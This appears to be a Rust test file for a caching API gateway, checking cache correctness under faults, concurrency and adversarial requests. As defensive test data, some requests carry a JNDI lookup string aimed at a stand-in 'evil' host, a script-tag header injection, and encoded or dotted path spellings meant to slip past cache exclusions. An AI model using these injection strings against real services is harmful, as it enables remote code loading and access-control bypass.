//! Attacks on the list cache.

use std::time::Duration;

use bytes::Bytes;
use http::{Method, Request, Response, StatusCode};
use http_body_util::{BodyExt, Full};
use omnigate::base::{Body, Peer};
use omnigate::fake_omni::{Fault, Reset, RetryAfter, Rule};
use tokio::time::{Instant, sleep};

use crate::cache::{CACHE, kept};
use crate::harness::{Answer, House, Plan, SECOND, Timed, ask, get, post};

const LIST: &str = "/api/v1/folders?pageSize=50";

fn with(path: &str, name: &str, value: &str) -> Request<Full<Bytes>> {
    get(path).header(name, value).body(Full::default()).unwrap()
}

fn plain(path: &str) -> Request<Full<Bytes>> {
    get(path).body(Full::default()).unwrap()
}

fn status(answer: &Answer) -> &str {
    answer.header("cache-status")
}

fn bare(method: &str, path: &str) -> Request<Body> {
    Request::builder()
        .method(method)
        .uri(path)
        .header("host", "127.0.0.1:6664")
        .header("content-type", "application/json")
        .body(Body::full("{\"name\":\"x\"}"))
        .unwrap()
}

/// Omni's limit refuses a call, so that nobody sends for 20 s. The call waits meanwhile.
async fn pause(house: &House) -> tokio::task::JoinHandle<Timed> {
    let block = Fault::Block(RetryAfter::Seconds(20));
    house.omni.fail(Rule::new(block).path("/api/v1/labels").times(1));
    let waits = house.call(plain("/api/v1/labels")).await;
    sleep(SECOND).await;
    waits
}

/// A write that was done and whose connection broke is sent again; the second try says 404.
#[tokio::test(start_paused = true)]
async fn a_delete_whose_repetition_finds_nothing_is_seen() {
    let house = kept("").build().await;
    let mut caller = house.caller().await;
    caller.get(LIST).await;
    let fault = Rule::new(Fault::Reset(Reset::BeforeHead)).method(Method::DELETE).times(1);
    house.omni.fail(fault);
    let gone = Response::builder().status(404).body(Bytes::from_static(b"{}")).unwrap();
    house.omni.fail(Rule::new(Fault::Answer(gone)).method(Method::DELETE).skip(0));
    let delete = Request::delete("/api/v1/folders/f").header("host", "127.0.0.1:6664");
    let answer = caller.call(delete.body(Full::default()).unwrap()).await;
    assert_eq!(answer.status, StatusCode::NOT_FOUND);
    house.omni.heal();
    let after = caller.get(LIST).await;
    assert!(!status(&after).contains("; hit"), "{}", status(&after));
}

/// A write that failed after it was sent, before its refusal is read.
#[tokio::test(start_paused = true)]
async fn a_write_that_broke_is_seen_before_its_answer_goes_out() {
    let house = kept("").build().await;
    let mut caller = house.caller().await;
    caller.get(LIST).await;
    house.omni.fail(Rule::new(Fault::Reset(Reset::BeforeHead)).method(Method::POST));
    let answer = house.rooms.answer(bare("POST", "/api/v1/folders"), Peer::pipe()).await;
    assert_eq!(answer.status(), 502);
    // Its head is known, its body is not read yet.
    let after = caller.get(LIST).await;
    drop(answer);
    assert!(!status(&after).contains("; hit"), "{}", status(&after));
}

/// Served past its time while a refresh waits: costs nothing.
#[tokio::test(start_paused = true)]
async fn hits_do_not_count_against_a_callers_own_rate() {
    let house = Plan {
        route: CACHE.to_owned(),
        more: "[callers.c]\nrate = { limit = 5, window = \"60s\" }".to_owned(),
        ..Plan::default()
    }
    .build()
    .await;
    let mut caller = house.caller().await;
    caller.get(LIST).await;
    sleep(40 * SECOND).await;
    house
        .omni
        .fail(Rule::new(Fault::Block(RetryAfter::Seconds(50))).path("/api/v1/labels").times(1));
    let _waits = house.call(plain("/api/v1/labels")).await;
    sleep(SECOND).await;
    assert!(house.rooms.shaper.snapshots()[0].paused.is_some());
    for _ in 0..20 {
        let answer = caller.call(ask(LIST, "c")).await;
        assert!(status(&answer).contains("detail=paused"), "{}", status(&answer));
    }
    sleep(50 * SECOND).await;
    // It made one call: the refresh.
    let answer = caller.call(ask("/api/v1/documents", "c")).await;
    assert_eq!(answer.status, 200, "{:?}", answer.body);
}

/// Background refreshes take the places that calls need.
#[tokio::test(start_paused = true)]
async fn refreshes_do_not_fill_the_queue() {
    let house = kept("max_queued = 6").build().await;
    let mut caller = house.caller().await;
    for page in 1..=9 {
        caller.get(&format!("/api/v1/folders?pageSize={page}")).await;
    }
    sleep(70 * SECOND).await;
    let _waits = pause(&house).await;
    let mut caller = house.caller().await;
    for page in 1..=9 {
        let answer = caller.get(&format!("/api/v1/folders?pageSize={page}")).await;
        assert!(status(&answer).contains("detail=paused"), "{}", status(&answer));
    }
    let answer = caller.call(post("/api/v1/folders", "{\"name\":\"x\"}")).await;
    assert!(answer.status.is_success(), "{} {:?}", answer.status, answer.body);
}

/// What one caller says about its way is no part of what others are answered.
#[tokio::test(start_paused = true)]
async fn nothing_unkeyed_of_a_caller_goes_up_with_a_shared_fetch() {
    let house = kept("").build().await;
    let mut caller = house.caller().await;
    caller.call(with(LIST, "via", "1.1 ${jndi:ldap://evil}")).await;
    let up = house.omni.arrivals().remove(0);
    let via: Vec<_> = up.headers.get_all("via").iter().map(|v| v.to_str().unwrap()).collect();
    assert!(!via.iter().any(|one| one.contains("evil")), "{via:?} {:?}", up.headers.keys());
}

/// The mark by which calls pass alone stays.
#[tokio::test(start_paused = true)]
async fn what_is_too_large_marks_its_key() {
    let house = Plan {
        route: CACHE.to_owned(),
        more: "[cache]\nmax_entry = \"1KiB\"".to_owned(),
        ..Plan::default()
    }
    .build()
    .await;
    let mut caller = house.caller().await;
    let large = Response::new(Bytes::from(vec![b'x'; 5000]));
    house.omni.fail(Rule::new(Fault::Answer(large)).path("/api/v1/folders"));
    let first = caller.get(LIST).await;
    assert_eq!((first.status, first.body.len()), (StatusCode::OK, 5000));
    assert_eq!(house.rooms.cache.entries(), 1, "the mark is gone");
}

/// HEAD over h2, of what is kept.
#[tokio::test(start_paused = true)]
async fn head_over_h2() {
    let house = kept("").build().await;
    let mut caller = house.h2_caller().await;
    let list = caller.get(LIST).await;
    let head = Request::head(format!("http://127.0.0.1:6664{LIST}")).body(Full::default()).unwrap();
    let (parts, body) = caller.send(head).await.unwrap().into_parts();
    assert_eq!(parts.headers["content-length"], list.body.len().to_string().as_str());
    let body = body.collect().await;
    assert_eq!(body.unwrap().to_bytes().len(), 0);
}

/// 304 over both.
#[tokio::test(start_paused = true)]
async fn not_modified_has_no_length_of_its_own() {
    let house = kept("").build().await;
    let mut two = house.h2_caller().await;
    let mut one = house.caller().await;
    one.get(LIST).await;
    let request = Request::get(format!("http://127.0.0.1:6664{LIST}")).header("if-none-match", "*");
    let answer = two.call(request.body(Full::default()).unwrap()).await;
    let first = one.call(with(LIST, "if-none-match", "*")).await;
    assert_eq!((answer.status, first.status), (StatusCode::NOT_MODIFIED, StatusCode::NOT_MODIFIED));
    assert!(!first.headers.contains_key("content-length"));
    assert!(!answer.headers.contains_key("content-length"));
}

/// Two values of the field that says for whom a call acts.
#[tokio::test(start_paused = true)]
async fn both_values_of_x_mcp_user_id_count() {
    let route = format!("{CACHE}\nimpersonation = \"allow\"");
    let house = Plan { route, ..Plan::default() }.build().await;
    let mut caller = house.caller().await;
    let of = |second: &str| {
        let one = get(LIST).header("x-mcp-user-id", "7").header("x-mcp-user-id", second);
        one.body(Full::default()).unwrap()
    };
    caller.call(of("8")).await;
    let other = caller.call(of("9")).await;
    assert!(!status(&other).contains("; hit"), "{}", status(&other));
}

/// no-store and only-if-cached together.
#[tokio::test(start_paused = true)]
async fn only_if_cached_never_costs() {
    let house = kept("").build().await;
    let mut caller = house.caller().await;
    let answer = caller.call(with(LIST, "cache-control", "no-store, only-if-cached")).await;
    assert_eq!((answer.status.as_u16(), house.omni.arrived()), (504, 0));
}

/// A follower's deadline is its own, whatever becomes of the fetch.
#[tokio::test(start_paused = true)]
async fn a_follower_waits_no_longer_than_it_said() {
    let house = kept("profile = \"burst\"").build().await;
    let say = || with(LIST, "prefer", "wait=30");
    house.omni.fail(Rule::new(Fault::SlowHead(20 * SECOND)).path("/api/v1/labels").times(1));
    // All slots but one are spent; what happens at 20 s comes by the last.
    let mut calls = Vec::new();
    for _ in 0..59 {
        calls.push(house.call(plain("/api/v1/documents")).await);
    }
    let block = Rule::new(Fault::Block(RetryAfter::Seconds(25))).path("/api/v1/folders");
    house.omni.fail(block.times(1));
    let leader = house.call(say()).await;
    let follower = house.call(say()).await;
    let (leader, follower) = (leader.await.unwrap(), follower.await.unwrap());
    println!("{} {:?}; {} {:?}", leader.status(), leader.took, follower.status(), follower.took);
    assert!(follower.took <= 31 * SECOND);
}

/// The same by a pause that begins while both wait.
#[tokio::test(start_paused = true)]
async fn a_follower_waits_no_longer_than_it_said_when_a_pause_begins() {
    for seed in 1..9 {
        let house = Plan { transit: 30 * SECOND, seed, ..kept("profile = \"burst\"\nlimit = 20") };
        let house = house.build().await;
        let began = Instant::now();
        let say = || with(LIST, "prefer", "wait=90");
        let block = Rule::new(Fault::Block(RetryAfter::Seconds(72))).path("/api/v1/models");
        house.omni.fail(block.times(1));
        let one = house.call(plain("/api/v1/labels")).await;
        for nth in 0..18 {
            drop(house.call(plain(&format!("/api/v1/labels?nth={nth}"))).await);
        }
        let pauses = house.call(plain("/api/v1/models")).await;
        let leader = house.call(say()).await;
        let follower = house.call(say()).await;
        let (leader, follower) = (leader.await.unwrap(), follower.await.unwrap());
        let left: Vec<_> = house
            .road
            .departures()
            .into_iter()
            .filter(|one| one.target == LIST)
            .map(|one| one.at - began)
            .collect();
        println!(
            "{} {:?}; {} {:?} {left:?}",
            leader.status(),
            leader.took,
            follower.status(),
            follower.took
        );
        let _ = (one.await, pauses.await);
        assert!(left.iter().all(|at| *at <= 91 * SECOND), "sent at {left:?}");
    }
}

/// An older fetch that may not be kept does not take away what a newer one brought.
#[tokio::test(start_paused = true)]
async fn an_older_fetch_does_not_drop_a_newer_answer() {
    let house = kept("").build().await;
    house.omni.fail(Rule::new(Fault::SlowHead(5 * SECOND)).path("/api/v1/folders").times(1));
    let old = house.call(plain(LIST)).await;
    sleep(SECOND).await;
    let mut caller = house.caller().await;
    let wrote = caller.call(post("/api/v1/folders", "{\"name\":\"x\"}")).await;
    assert!(wrote.status.is_success(), "{}", wrote.status);
    let newer = caller.get(LIST).await;
    assert!(status(&newer).contains("stored"), "{}", status(&newer));
    old.await.unwrap();
    let again = caller.get(LIST).await;
    assert!(status(&again).contains("; hit"), "{}", status(&again));
}

/// Slow bodies: the riders do not each pay when the answer is not whole in time.
#[tokio::test(start_paused = true)]
async fn a_slow_answer_is_not_paid_by_each_who_waits() {
    let house = kept("").build().await;
    let slow = Fault::SlowBody { piece: 64, pause: 10 * SECOND };
    house.omni.fail(Rule::new(slow).path("/api/v1/folders").times(1));
    let mut calls = Vec::new();
    for _ in 0..50 {
        calls.push(house.call(plain(LIST)).await);
    }
    for call in calls {
        let timed = call.await.unwrap();
        assert_eq!(timed.status(), 200);
    }
    assert!(house.omni.arrived() <= 3, "{}", house.omni.arrived());
}

/// A caller is told how the cache treated it also where nothing is kept for `only-if-cached`.
#[tokio::test(start_paused = true)]
async fn every_answer_of_a_cached_route_has_a_status() {
    let house = kept("").build().await;
    let mut caller = house.caller().await;
    let answer = caller.call(with(LIST, "cache-control", "only-if-cached")).await;
    assert_ne!(status(&answer), "", "{:?}", answer.headers);
}

/// A refused call was not forwarded.
#[tokio::test(start_paused = true)]
async fn a_refused_call_is_not_said_to_have_gone_on() {
    let house = kept("profile = \"burst\"\nlimit = 1").build().await;
    let mut caller = house.caller().await;
    caller.get("/api/v1/labels").await;
    let answer = caller.call(with(LIST, "prefer", "wait=1")).await;
    println!("{} {:?}", answer.status, answer.headers);
    assert_eq!(answer.status, 503);
    assert_eq!(status(&answer), "");
}

/// One stale answer is served while upstream hangs.
#[tokio::test(start_paused = true)]
async fn while_upstream_hangs_what_is_stale_is_served() {
    let house = kept("").build().await;
    let mut caller = house.caller().await;
    caller.get(LIST).await;
    sleep(40 * SECOND).await;
    house.omni.fail(Rule::new(Fault::SlowHead(600 * SECOND)).path("/api/v1/folders"));
    let began = Instant::now();
    let answer = caller.get(LIST).await;
    println!("{} {} after {:?}", answer.status, status(&answer), began.elapsed());
    assert!(began.elapsed() <= 10 * SECOND);
}

/// Unrelated to keeping: 403 for one caller's head must not drop the kept answer of all.
#[tokio::test(start_paused = true)]
async fn a_refusal_by_the_waf_does_not_drop_what_is_kept() {
    let house = kept("").build().await;
    let mut caller = house.caller().await;
    caller.get(LIST).await;
    let waf = Response::builder().status(403).header("x-omni-waf-action", "block");
    let waf = waf.body(Bytes::from_static(b"blocked")).unwrap();
    house.omni.fail(Rule::new(Fault::Answer(waf)).path("/api/v1/folders").times(1));
    let mut evil = with(LIST, "cache-control", "no-cache");
    evil.headers_mut().insert("via", "1.1 <script>".parse().unwrap());
    let answer = caller.call(evil).await;
    assert_eq!(answer.status, 403);
    let after = caller.get(LIST).await;
    assert!(status(&after).contains("; hit"), "{}", status(&after));
}

/// A refresh in the background that a caller caused takes no place of its own calls.
#[tokio::test(start_paused = true)]
async fn refreshes_do_not_fill_a_callers_share_of_the_queue() {
    let house = Plan {
        route: CACHE.to_owned(),
        more: "[callers.c]\nmax_queued = 2".to_owned(),
        ..Plan::default()
    }
    .build()
    .await;
    let mut caller = house.caller().await;
    for page in 1..=3 {
        caller.get(&format!("/api/v1/folders?pageSize={page}")).await;
    }
    sleep(40 * SECOND).await;
    let _waits = pause(&house).await;
    let mut caller = house.caller().await;
    for page in 1..=2 {
        let answer = caller.call(ask(&format!("/api/v1/folders?pageSize={page}"), "c")).await;
        assert!(status(&answer).contains("detail=paused"), "{}", status(&answer));
    }
    let answer = caller.call(ask("/api/v1/documents", "c")).await;
    assert_eq!(answer.status, 200, "{:?}", answer.body);
}

/// Who wants nothing kept is not answered by others' retries for ever.
#[tokio::test(start_paused = true)]
async fn a_revoked_key_shows_nothing_that_was_kept() {
    let house = kept("").build().await;
    let mut caller = house.caller().await;
    caller.get(LIST).await;
    sleep(40 * SECOND).await;
    house.omni.set_keys(Vec::new());
    let mut answers = Vec::new();
    for _ in 0..3 {
        let mut caller = house.caller().await;
        answers.push(caller.get(LIST).await);
        sleep(SECOND).await;
    }
    for one in &answers {
        println!("{} {}", one.status, status(one));
    }
    assert!(answers.iter().skip(1).all(|one| one.status == 503));
    assert_eq!(answers[0].status, 503);
}

/// Random trouble: once a write is answered, nobody reads what was before it.
#[tokio::test(start_paused = true)]
async fn no_write_is_hidden_in_a_storm() {
    use crate::harness::Dice;
    use std::sync::Arc;
    let seeds: u64 = std::env::var("SEEDS").ok().and_then(|s| s.parse().ok()).unwrap_or(2);
    for seed in 1..=seeds {
        let plan = kept("profile = \"burst\"\nlimit = 500");
        let plan = Plan { transit: Duration::from_millis(300), seed, ..plan };
        let house = Arc::new(plan.build().await);
        let mut readers = tokio::task::JoinSet::new();
        for nth in 0..6u64 {
            let house = house.clone();
            readers.spawn(async move {
                let mut dice = Dice(seed * 100 + nth);
                loop {
                    let mut caller = house.caller().await;
                    let _ = caller.try_call(plain(LIST)).await;
                    sleep(Duration::from_millis(dice.below(900) as u64)).await;
                }
            });
        }
        let mut dice = Dice(seed);
        for nth in 0..40 {
            let fault = match dice.below(8) {
                0 => Some(Fault::Reset(Reset::BeforeHead)),
                1 => Some(Fault::Reset(Reset::AfterHead)),
                2 => Some(Fault::Reset(Reset::MidBody)),
                3 => Some(Fault::SlowHead(Duration::from_millis(700))),
                4 => Some(Fault::Status(StatusCode::SERVICE_UNAVAILABLE)),
                5 => Some(Fault::Block(RetryAfter::Seconds(2))),
                6 => Some(Fault::SlowHead(SECOND * 200)),
                _ => None,
            };
            house.omni.heal();
            if let Some(fault) = fault {
                let mut rule = Rule::new(fault).times(1 + dice.below(2)).path("/api/v1/folders");
                if dice.below(3) > 0 {
                    rule = rule.method(Method::POST);
                }
                house.omni.fail(rule);
            }
            let wrote =
                house.call(post("/api/v1/folders", format!("{{\"name\":\"n{nth}\"}}"))).await;
            let how = if dice.below(4) == 0 {
                sleep(Duration::from_millis(dice.below(900) as u64)).await;
                wrote.abort();
                let _ = wrote.await;
                sleep(SECOND / 2).await;
                0
            } else {
                wrote.await.unwrap().status()
            };
            house.omni.heal();
            let mut caller = house.caller().await;
            let first = caller.call(plain(LIST)).await;
            let mut caller = house.caller().await;
            let truth = caller.call(with(LIST, "cache-control", "no-store")).await;
            if first.status != 200 || truth.status != 200 {
                continue;
            }
            let of = |one: &Answer| one.json()["revision"].as_u64().unwrap();
            assert!(
                of(&first) >= of(&truth),
                "seed {seed} write {nth} {how}: {} {} {}",
                of(&first),
                of(&truth),
                status(&first)
            );
            sleep(Duration::from_millis(dice.below(3000) as u64)).await;
        }
        readers.shutdown().await;
    }
}

/// Spellings of what is never kept.
#[tokio::test(start_paused = true)]
async fn what_is_never_kept_is_not_kept_under_another_spelling() {
    let house = kept("").build().await;
    let mut bad = Vec::new();
    for path in [
        "/api/v1/%77hoami",
        "/api/v1/WhoAmI",
        "/api/v1/api%2Dkeys",
        "/api/v1/api-keys/",
        "/%6dcp/x",
        "/api/v1/jobs/j/status",
        "/api/v1/%6aobs/j/status",
        "/api/v1//whoami",
        "/api/v1/./whoami",
        "/api/v1/whoami/",
        "/api/v1/query/../whoami",
        "/api/v1/%2e/whoami",
        "/api//v1/whoami",
        "/api/v1/whoami%20",
        "/api/v1/whoami;x=1",
        "/api/v1/who%61mi",
    ] {
        let mut caller = house.caller().await;
        let fault = Fault::Answer(Response::new(Bytes::from_static(b"{}")));
        house.omni.fail(Rule::new(fault));
        let one = caller.try_call(plain(path)).await;
        let mut caller = house.caller().await;
        let two = caller.try_call(plain(path)).await;
        let line = format!(
            "{path}: {:?} {:?} | {:?}",
            one.as_ref().map(|o| o.status.as_u16()),
            one.as_ref().map(|o| status(o).to_owned()),
            two.as_ref().map(|o| status(o).to_owned())
        );
        println!("{line}");
        if two.is_some_and(|two| status(&two).contains("; hit")) {
            bad.push(line)
        }
        house.omni.heal();
    }
    println!(
        "KEPT: {bad:#?} {:?}",
        house
            .omni
            .arrivals()
            .iter()
            .map(|a| a.target.path().to_owned())
            .collect::<std::collections::BTreeSet<_>>()
    );
}

/// A caller leaves while its write is on its way; a list that is fetched meanwhile shows what was before.
#[tokio::test(start_paused = true)]
async fn a_write_that_is_still_on_its_way_when_its_caller_leaves() {
    let mut hidden = 0;
    for seed in 1..40 {
        let plan = Plan { transit: 3 * SECOND, seed, ..kept("") };
        let house = plan.build().await;
        let write = house.call(post("/api/v1/folders", "{\"name\":\"x\"}")).await;
        while house.road.departures().is_empty() {
            sleep(SECOND / 100).await;
        }
        write.abort();
        let _ = write.await;
        sleep(SECOND / 10).await;
        let mut caller = house.caller().await;
        caller.get(LIST).await;
        sleep(6 * SECOND).await;
        let mut caller = house.caller().await;
        let seen = caller.get(LIST).await;
        let mut caller = house.caller().await;
        let truth = caller.call(with(LIST, "cache-control", "no-store")).await;
        let of = |one: &Answer| one.json()["revision"].as_u64().unwrap();
        hidden += usize::from(of(&seen) < of(&truth));
    }
    println!("hidden in {hidden} of 39");
    assert_eq!(hidden, 0);
}

/// A field that the route forwards and that is new with each call.
#[tokio::test(start_paused = true)]
async fn a_trace_id_does_not_end_all_keeping() {
    let route = format!("{CACHE}\nforward_headers = [\"traceparent\"]");
    let house = Plan { route, ..Plan::default() }.build().await;
    let mut caller = house.caller().await;
    for nth in 0..5 {
        let id = format!("00-0af7651916cd43dd8448eb211c80319{nth}-b7ad6b7169203331-01");
        caller.call(with(LIST, "traceparent", &id)).await;
    }
    assert_eq!(house.omni.arrived(), 1);
}

/// A caller's own key counts where RFC 9111 decides (§3.5), although it never goes up.
#[tokio::test(start_paused = true)]
async fn what_was_asked_for_with_a_callers_own_key_is_kept_only_where_upstream_says_so() {
    let route = "cache = { stale = \"10m\" }\nrespect_upstream = true".to_owned();
    let house = Plan { route, ..Plan::default() }.build().await;
    let fresh = |says: &'static str| {
        let fresh = Response::builder().header("cache-control", says);
        Rule::new(Fault::Answer(fresh.body(Bytes::from_static(b"{}")).unwrap()))
    };
    house.omni.fail(fresh("max-age=60").path("/api/v1/folders"));
    house.omni.fail(fresh("public, max-age=60").path("/api/v1/labels"));
    let mut caller = house.caller().await;
    for _ in 0..3 {
        caller.call(with(LIST, "authorization", "Bearer dummy")).await;
    }
    assert_eq!(house.omni.arrived(), 3);
    for (name, value) in [("x-any", "1"), ("cookie", "a=b"), ("via", "1.1 evil")] {
        caller.call(with(LIST, name, value)).await;
    }
    assert_eq!(house.omni.arrived(), 4);
    for _ in 0..3 {
        caller.call(with("/api/v1/labels", "authorization", "Bearer dummy")).await;
    }
    assert_eq!(house.omni.arrived(), 5);
}

/// The whole house on several threads: every send is charged, nothing leaks, everybody is answered.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn on_several_threads_every_send_is_charged_and_nothing_leaks() {
    use crate::harness::Dice;
    use std::sync::Arc;
    let budget = "profile = \"burst\"\nlimit = 100000\nwindow = \"1h\"\nmax_queued = 100000";
    let house = Arc::new(kept(budget).build().await);
    house.omni.fail(Rule::new(Fault::Reset(Reset::MidBody)).target("/api/v1/folders?pageSize=3"));
    house.omni.fail(
        Rule::new(Fault::SlowHead(Duration::from_millis(5))).target("/api/v1/folders?pageSize=4"),
    );
    let mut set = tokio::task::JoinSet::new();
    for nth in 0..24u64 {
        let house = house.clone();
        set.spawn(async move {
            let mut dice = Dice(nth + 7);
            let mut seen = [0usize; 6];
            for _ in 0..60 {
                let path = format!("/api/v1/folders?pageSize={}", 1 + dice.below(5));
                let rooms = house.rooms.clone();
                let mut request = Request::get(path).header("host", "127.0.0.1:6664");
                if dice.below(3) == 0 {
                    request = request.header("cache-control", "no-cache");
                }
                let request = match dice.below(40) {
                    0 => bare("POST", "/api/v1/folders"),
                    _ => request.body(Body::empty()).unwrap(),
                };
                let call = async move {
                    let answer = rooms.answer(request, Peer::pipe()).await;
                    let status = answer.status().as_u16();
                    let whole = answer.into_body().collect().await.is_ok();
                    (status, whole)
                };
                if dice.below(30) == 0 {
                    let _ = house.rooms.proxy.purge(None).await;
                }
                let ended = if dice.below(4) == 0 {
                    let within = Duration::from_micros(dice.below(3000) as u64);
                    tokio::time::timeout(within, call).await.ok()
                } else {
                    Some(tokio::time::timeout(SECOND * 40, call).await.expect("waits for ever"))
                };
                match ended {
                    None => seen[0] += 1,
                    Some((200..300, true)) => seen[1] += 1,
                    Some((502, _)) => seen[2] += 1,
                    Some((500, _)) => seen[3] += 1,
                    Some(_) => seen[4] += 1,
                }
            }
            seen
        });
    }
    let mut all = [0; 6];
    while let Some(seen) = set.join_next().await {
        for (sum, one) in all.iter_mut().zip(seen.unwrap()) {
            *sum += one;
        }
    }
    sleep(SECOND * 2).await;
    let snapshot = house.rooms.shaper.snapshots().remove(0);
    println!(
        "{all:?} used {} queued {} arrived {} departures {}",
        snapshot.used,
        snapshot.queued,
        house.omni.arrived(),
        house.road.departures().len()
    );
    assert_eq!((snapshot.queued, all[3]), (0, 0));
    assert!(snapshot.used >= house.road.departures().len());
}

/// The same over the wire: a caller that takes no bytes of the refusal.
#[tokio::test(start_paused = true)]
async fn a_write_that_broke_is_seen_although_its_caller_does_not_read() {
    use hyper_util::rt::{TokioExecutor, TokioIo};
    let house = kept("").build().await;
    house.caller().await.get(LIST).await;
    house.omni.fail(Rule::new(Fault::Reset(Reset::BeforeHead)).method(Method::POST));
    let mut builder = hyper::client::conn::http2::Builder::new(TokioExecutor::new());
    let (mut sender, connection) = builder
        .initial_stream_window_size(0)
        .handshake::<_, Full<Bytes>>(TokioIo::new(house.connect()))
        .await
        .unwrap();
    tokio::spawn(connection);
    let write = Request::post("http://127.0.0.1:6664/api/v1/folders")
        .header("content-type", "application/json");
    let answer =
        sender.send_request(write.body(Full::from("{\"name\":\"x\"}")).unwrap()).await.unwrap();
    assert_eq!(answer.status(), 502);
    sleep(5 * SECOND).await;
    let after = house.caller().await.get(LIST).await;
    drop(answer);
    assert!(!status(&after).contains("; hit"), "{}", status(&after));
}

mod flights {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering::SeqCst};
    use std::time::Duration;

    use omnigate::base::{CallerId, Priority, RouteId};
    use omnigate::cache::{Cache, CacheSettings, Flights, Key, Question, Stage, Waits};
    use tokio::time::{Instant, timeout};

    /// Real threads: whoever rides is told, and nothing is left.
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    #[allow(clippy::too_many_lines)]
    async fn nobody_is_forgotten_on_several_threads() {
        let all: Arc<Flights<u32, u32>> = Arc::default();
        let cache = Arc::new(Cache::new(CacheSettings::default()));
        let mark = cache.generations().route(&RouteId::new("r"));
        let subject = cache.generations().subject("/api/v1/labels", &mark);
        let counts: Arc<[AtomicUsize; 6]> = Arc::default();
        let mut tasks = tokio::task::JoinSet::new();
        for nth in 0..16u64 {
            let (all, cache, subject, counts) =
                (all.clone(), cache.clone(), subject.clone(), counts.clone());
            tasks.spawn(async move {
                let mut dice = crate::harness::Dice(nth + 1);
                for _ in 0..20_000 {
                    let path = if dice.below(3) == 0 { "/a" } else { "/b" };
                    let fields = http::HeaderMap::new();
                    let key = Key::of(&Question {
                        keys: &[],
                        path,
                        query: None,
                        acts_for: None,
                        fields: &fields,
                        vary: &[],
                    });
                    let waits = Waits {
                        caller: CallerId::new(format!("c{nth}")),
                        priority: Priority::ALL[dice.below(3)],
                        until: Instant::now() + Duration::from_secs(5),
                    };
                    let may = dice.below(2) == 0;
                    let (mut rider, pilot) = all.join(&key, waits.clone(), |_| may);
                    if let Some(pilot) = pilot {
                        counts[0].fetch_add(1, SeqCst);
                        let stamp = cache.generations().stamp(&subject);
                        let (how, steps) = (dice.below(8), dice.below(4));
                        tokio::spawn(async move {
                            pilot.waits_at(7, |_, _| {});
                            let fly = async {
                                for _ in 0..steps {
                                    tokio::task::yield_now().await;
                                }
                                if how > 1 {
                                    pilot.goes(stamp);
                                }
                                for _ in 0..steps {
                                    tokio::task::yield_now().await;
                                }
                                if how > 5 {
                                    pilot.waits();
                                    tokio::task::yield_now().await;
                                    pilot.goes(stamp);
                                }
                            };
                            let gone = tokio::select! {
                                biased;
                                () = fly => false,
                                () = pilot.abandoned() => true,
                            };
                            if !gone && how != 2 {
                                pilot.land(1);
                            }
                        });
                    }
                    match dice.below(6) {
                        0 => drop(rider),
                        1 => rider.stay(waits),
                        2 => {
                            tokio::task::yield_now().await;
                            drop(rider);
                        }
                        _ => loop {
                            match rider.stage() {
                                Stage::Landed(_) => {
                                    counts[1].fetch_add(1, SeqCst);
                                    break;
                                }
                                Stage::Lost => {
                                    counts[2].fetch_add(1, SeqCst);
                                    break;
                                }
                                Stage::Waits | Stage::Goes => {
                                    let moved = timeout(Duration::from_secs(20), rider.moved());
                                    moved.await.expect("somebody was forgotten");
                                }
                            }
                        },
                    }
                }
            });
        }
        while let Some(ended) = tasks.join_next().await {
            ended.unwrap();
        }
        println!("{counts:?}");
        let over = async {
            while !all.is_empty() {
                tokio::task::yield_now().await;
            }
        };
        timeout(Duration::from_secs(20), over).await.expect("a flight was forgotten");
    }
}
